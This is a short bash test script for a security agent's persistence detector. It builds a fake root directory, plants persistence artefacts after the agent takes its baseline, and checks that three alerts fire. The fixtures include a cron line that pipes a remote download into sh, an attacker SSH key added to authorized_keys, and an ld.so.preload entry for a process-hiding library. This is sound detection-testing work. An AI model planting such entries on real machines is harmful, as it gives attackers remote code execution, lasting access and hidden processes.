#!/usr/bin/env bash
# A fake root with the usual autostart places; the agent builds its baseline, then a cron entry,
# an authorized key and an ld.so.preload entry appear (and one harmless file elsewhere).
set -eu
r=$PWD/root
mkdir -p $r/etc/cron.d $r/etc/systemd/system $r/home/alice/.ssh $r/etc/profile.d $r/var/www
echo "17 * * * * root cd / && run-parts --report /etc/cron.hourly" > $r/etc/crontab
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOld alice@laptop" > $r/home/alice/.ssh/authorized_keys
echo "export PATH=/usr/local/bin:\$PATH" > $r/etc/profile.d/path.sh
mimamori-agent --eve eve.json --run-for 120 --set agent.state_dir=$PWD/state \
  --set auth.enabled=false --set fim.enabled=false --set ransomware.enabled=false \
  --set process.enabled=false --set network.enabled=false --set inventory.enabled=false --set behaviour.enabled=false \
  --set yara.enabled=false \
  --set persistence.root=$r --set persistence.interval_s=60 --set agent.poll_interval_ms=200 \
  2> >(tee agent.err >&2) &
agent=$!
# The changes come once the baseline is taken (the agent says how many files it watches), and
# the agent stops once it has written its three alerts (or after two minutes).
for _ in $(seq 600); do grep -q "persistence: watching" agent.err 2>/dev/null && break; sleep 0.1; done
sleep 0.5
echo "*/5 * * * * root curl -s http://203.0.113.9/x | sh" > $r/etc/cron.d/update
echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCevil attacker@vps" >> $r/home/alice/.ssh/authorized_keys
echo "/usr/lib/x86_64-linux-gnu/libprocesshider.so" > $r/etc/ld.so.preload
echo "<html>hello</html>" > $r/var/www/index.html
for _ in $(seq 600); do
  [ "$(grep -c '"event_type":"alert"' eve.json 2>/dev/null)" -ge 3 ] && break
  sleep 0.1
done
sleep 1  # an alert too many would come now
kill -TERM $agent
wait $agent
